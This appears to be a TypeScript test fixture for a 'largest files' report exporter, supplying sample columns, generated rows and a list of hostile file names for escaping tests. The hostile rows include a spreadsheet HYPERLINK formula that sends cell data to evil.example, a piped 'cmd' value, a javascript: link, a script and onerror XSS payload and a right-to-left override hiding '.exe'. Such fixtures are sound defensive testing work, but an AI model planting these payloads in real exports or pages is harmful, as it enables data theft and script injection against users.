import type { ReportColumn, Row } from '../../../../src/reports/report.ts';
import type { ReportResult } from '../../../../src/reports/result.ts';

export const sampleColumns: readonly ReportColumn[] = [
  { name: 'path', title: 'Path', type: 'text', meaning: 'where the file lies' },
  { name: 'size', title: 'Size', type: 'integer', unit: 'bytes', meaning: 'size of the file' },
  { name: 'share', title: 'Share', type: 'decimal', unit: 'percent', meaning: 'share of the drive' },
  { name: 'shared', title: 'Shared', type: 'boolean', meaning: 'anybody but the owner may read it' },
  { name: 'modified_at', title: 'Modified', type: 'time', meaning: 'when it was last changed' },
  { name: 'web_url', title: 'Address', type: 'link', meaning: 'address for a browser' },
];

const day = 86_400_000;
export const sampleTime = new Date('2026-11-20T06:00:00.000Z');

/** Names that people and attackers give to files. */
export const hostileRows: readonly Row[] = [
  ['=HYPERLINK("https://evil.example/?"&A1,"open")', 5, 0.5, true, sampleTime, 'https://contoso.example/a'],
  ['+1+1 | cmd', 1, 0, false, sampleTime, 'javascript:alert(1)'],
  ['-2+3', 0, 0, false, null, null],
  ['@SUM(A1:A9)', 12, 1.25, null, sampleTime, 'https://contoso.example/a b'],
  ['\t=1+1', 9_007_199_254_740_991, 100, true, new Date(-1), 'https://contoso.example/?a=1&b="2"'],
  ['\u00a0=1+1', null, null, null, null, null],
  ['＝1+1', 7, 0.1, false, sampleTime, ''],
  ['a "quoted", comma; and\r\nnew line', 42, 12.5, true, sampleTime, 'https://contoso.example/%20'],
  [
    '</script><script>document.title="owned"</script><img src=x onerror=alert(1)>',
    3,
    3,
    true,
    sampleTime,
    'https://contoso.example/<b>',
  ],
  [
    "Müller's Übersicht 東京 📊 \u202etxt.exe",
    1024 ** 3,
    33.3,
    true,
    sampleTime,
    'https://contoso.example/%F0%9F%93%8A',
  ],
  ['bell \u0007 and _x0041_ and \ufffe', 1, 1, true, sampleTime, null],
  ['half of a pair \ud83d', 1, 1, true, sampleTime, null],
  [
    `/Long/${'verylongname'.repeat(30)}.docx`,
    1,
    1,
    true,
    sampleTime,
    `https://contoso.example/${'x'.repeat(500)}`,
  ],
  ['', 1, 1, true, sampleTime, null],
  [null, null, null, null, null, null],
];

/** A report of these rows; members are replaced by what is given. */
export function sampleReport(rows: readonly Row[], members: Partial<ReportResult> = {}): ReportResult {
  return {
    keepRows: () => Promise.resolve(),
    name: 'largest-files',
    title: 'Largest files',
    summary: 'The files that take the most room.',
    generatedAt: sampleTime,
    parameters: [{ name: 'limit', value: '1000', meaning: 'how many files' }],
    columns: sampleColumns,
    rowCount: rows.length,
    label: 'path',
    async *rows() {
      for (let from = 0; from < rows.length; from += 100) yield rows.slice(from, from + 100);
    },
    totals: [
      { name: 'files', title: 'Files', unit: 'files', value: 412_006, before: 400_000 },
      { name: 'bytes', title: 'Together', unit: 'bytes', value: 1.8 * 1024 ** 4, before: 1.7 * 1024 ** 4 },
    ],
    sentences: ['1.8 TB in 412,006 files.', '6 files are over 10 GB.'],
    changes: undefined,
    coverage: {
      drives: 415,
      read: 412,
      denied: 3,
      skipped: 0,
      missing: [
        { drive: 'Legal <hold>', outcome: 'denied', reason: 'Microsoft Graph answered: access denied.' },
      ],
      readAt: new Date(sampleTime.getTime() - day),
      line: '412 of 415 drives read; 3 denied.',
    },
    charts: [],
    limits: ['Deleted files are not seen.'],
    close: async () => {},
    ...members,
  };
}

/** A report of many rows, which are made while they are read. */
export function manyRows(count: number, members: Partial<ReportResult> = {}): ReportResult {
  return sampleReport([], {
    rowCount: count,
    async *rows() {
      for (let from = 0; from < count; from += 2_048) {
        yield Array.from({ length: Math.min(2_048, count - from) }, (_, index) => rowOf(from + index));
      }
    },
    ...members,
  });
}

function rowOf(n: number): Row {
  return [
    `/Projects/Folder ${n % 1_000}/Quarterly, "final" report ${n}.docx`,
    n * 1_021,
    (n % 1_000) / 10,
    n % 3 === 0,
    new Date(sampleTime.getTime() - n * 60_000),
    `https://contoso.example/personal/ann/Documents/${n}`,
  ];
}
